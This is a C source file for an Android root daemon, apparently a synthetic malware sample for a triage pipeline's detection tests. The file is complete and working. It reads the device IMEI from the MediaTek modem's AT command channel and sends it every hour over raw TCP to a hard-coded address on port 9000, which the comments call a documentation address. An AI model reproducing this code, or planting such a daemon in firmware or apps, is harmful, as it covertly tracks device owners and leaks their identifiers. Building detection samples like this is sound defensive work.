/*
 * logsvc: a native daemon planted in /system/bin of the sample Android image.
 *
 * Started as root by /system/etc/init/logsvc.rc. It asks the modem for the
 * IMEI through the MediaTek AT command channel (/dev/radio/atci, "AT+CGSN")
 * and sends it over raw TCP to a hard-coded address, then repeats hourly.
 * Synthetic sample for the triage pipeline's detection tests: 203.0.113.99 is
 * a documentation address (RFC 5737).
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define ATCI_DEVICE "/dev/radio/atci"
#define COLLECTOR_ADDR "203.0.113.99"
#define COLLECTOR_PORT 9000
#define IMEI_LEN 15

/* Ask the modem for the IMEI; returns 0 and fills imei with 15 digits, -1 otherwise. */
static int read_imei(char imei[IMEI_LEN + 1])
{
    char reply[256];
    int fd = open(ATCI_DEVICE, O_RDWR | O_NOCTTY);
    if (fd < 0)
        return -1;
    static const char command[] = "AT+CGSN\r\n";
    if (write(fd, command, sizeof command - 1) != (ssize_t)(sizeof command - 1)) {
        close(fd);
        return -1;
    }
    ssize_t got = read(fd, reply, sizeof reply - 1);
    close(fd);
    if (got <= 0)
        return -1;
    reply[got] = '\0';
    size_t digits = 0;
    for (ssize_t i = 0; i < got && digits < IMEI_LEN; i++) {
        if (isdigit((unsigned char)reply[i]))
            imei[digits++] = reply[i];
        else if (digits > 0)
            digits = 0; /* an IMEI is one run of 15 digits */
    }
    imei[digits] = '\0';
    return digits == IMEI_LEN ? 0 : -1;
}

/* Send one "IMEI:<digits>" line to the collector over a plain TCP connection. */
static int send_imei(const char *imei)
{
    struct sockaddr_in collector = { .sin_family = AF_INET, .sin_port = htons(COLLECTOR_PORT) };
    if (inet_pton(AF_INET, COLLECTOR_ADDR, &collector.sin_addr) != 1)
        return -1;
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    if (sock < 0)
        return -1;
    char line[64];
    int length = snprintf(line, sizeof line, "IMEI:%s\n", imei);
    int result = -1;
    if (connect(sock, (struct sockaddr *)&collector, sizeof collector) == 0
        && send(sock, line, (size_t)length, 0) == length)
        result = 0;
    close(sock);
    return result;
}

int main(void)
{
    char imei[IMEI_LEN + 1];
    for (;;) {
        if (read_imei(imei) == 0)
            send_imei(imei);
        sleep(3600);
    }
}
